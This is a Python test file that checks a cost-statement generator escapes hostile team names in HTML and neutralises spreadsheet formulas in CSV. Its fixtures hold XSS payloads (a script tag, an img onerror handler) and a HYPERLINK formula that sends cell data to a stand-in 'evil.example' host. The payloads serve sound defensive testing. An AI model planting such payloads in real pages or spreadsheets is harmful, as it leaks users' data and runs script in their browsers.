"""Names and tags come from outside: on the page they are text, in a spreadsheet they are no formula."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reporting.csv_files import csv_text, neutral
from reporting.formatting import clean
from reporting.statement import write_statement
from tests.unit.reporting.company_month import MARCH, allocation
from tests.unit.reporting.marts_fixture import chargeback_of, publish
from tests.unit.reporting.statement_page import StatementTables

HOSTILE = {
    "t1": "<script>alert('x')</script>",
    "t2": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "t3": "quote \" and ' and & and </td></table><h1>",
    "t4": "line one\nline two\r\n+SUM(1)",
    "t5": "\u202egnp.exe \U0001f469\u200d\U0001f4bb \u00e9quipe",
    "t6": "{{ 7 * 7 }} {% raw %}",
    "t7": "@cmd",
    "t8": "Twin",
    "t9": "Twin",
    "t10": "x" * 400,
}


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    rows = [
        allocation(team, "direct", "10.01", service_name=f"-{name}", product=name, deployment_id=name)
        for team, name in HOSTILE.items()
    ]
    rows.append(
        allocation(
            "unallocated",
            "unallocated",
            1,
            allocation_path="rule:x > unallocated: tag '<img src=x onerror=alert(1)>' is not a team",
        )
    )
    content = {
        "dim_teams": [
            {"team_id": team, "team_name": name, "cost_center": "=1+1", "department": "-"}
            for team, name in HOSTILE.items()
        ],
        "fct_cost_allocations": rows,
        "fct_chargeback": chargeback_of(rows),
        "fct_token_usage": [
            {
                "billing_period": MARCH,
                "source": "openai",
                "model_raw": "<b>model</b>",
                "team_id": "t1",
                "total_tokens": 5,
                "is_unpriced": True,
                "is_primary": True,
            }
        ],
    }
    return write_statement(publish(folder / "published", content), MARCH, folder / "out")


def test_page_holds_no_markup_script_or_reference_from_outside(written):
    text = written.html.read_text(encoding="utf-8")
    page = StatementTables(text)
    tags = {tag for tag, _ in page.tags}
    assert not tags & {
        "script",
        "img",
        "iframe",
        "link",
        "object",
        "embed",
        "form",
        "b-model",
        "foreignobject",
    }
    assert [tag for tag, _ in page.tags].count("h1") == 1
    assert not any(
        name.startswith("on") or name in ("href", "src") for _, attributes in page.tags for name in attributes
    )
    assert set(re.findall(r"https?://[^\s\"'<&]+", text)) == {
        "http://www.w3.org/2000/svg",
        "http://www.w3.org/1999/xlink",
        "http://evil.example/?",
        "http://evil.\u2026",
    }
    assert not re.search(r"url\((?!#)|@import", text)
    assert "49" not in [cell for row in page.table("USD", "teams") for cell in row]


def test_page_shows_hostile_names_as_they_are_but_on_one_line(written):
    page = StatementTables(written.html.read_text(encoding="utf-8"))
    names = [row[0] for row in page.table("USD", "teams")[1:]]
    for team in ("t1", "t2", "t3", "t6", "t7", "t10"):
        assert HOSTILE[team] in names
    assert "line one line two +SUM(1)" in names
    assert "gnp.exe \U0001f469\u200d\U0001f4bb \u00e9quipe" in names, (
        "direction marks go, emoji and accents stay"
    )
    assert {"Twin (t8)", "Twin (t9)"} <= set(names), "two teams of one name are told apart"
    assert "tag '<img src=x onerror=alert(1)>' is not a team" in [
        row[1] for row in page.table("USD", "unallocated")
    ]


def test_csv_text_is_no_formula_and_numbers_stay_numbers(written):
    for path in (written.teams_csv, written.lines_csv):
        with path.open(encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        assert len({len(row) for row in rows}) == 1
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r", "\n"))
                assert not cell.startswith("-") or re.fullmatch(r"-\d+\.\d+", cell)
    with written.teams_csv.open(encoding="utf-8", newline="") as handle:
        names = {row["team_id"]: row["team_name"] for row in csv.DictReader(handle)}
    assert names["t2"] == "'" + HOSTILE["t2"]
    assert names["t4"] == HOSTILE["t4"], "a formula only after a line break inside a quoted cell is text"
    assert names["t3"] == HOSTILE["t3"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\u00a0+", "\uff1d", "\uff20"])
def test_neutral_puts_an_apostrophe_before_formula_starts(start):
    assert neutral(f"{start}1") == f"'{start}1"


@given(st.text())
def test_csv_round_trips_any_text_without_formulas(text):
    _, (_, value) = csv.reader(io.StringIO(csv_text(("a", "b"), [("x", text)]), newline=""))
    assert value.lstrip()[:1] not in ("=", "+", "-", "@")
    assert value in (text, f"'{text}")


@given(st.text())
def test_clean_leaves_one_line_without_controls_or_direction_marks(text):
    cleaned = clean(text)
    assert cleaned == clean(cleaned)
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]", cleaned)
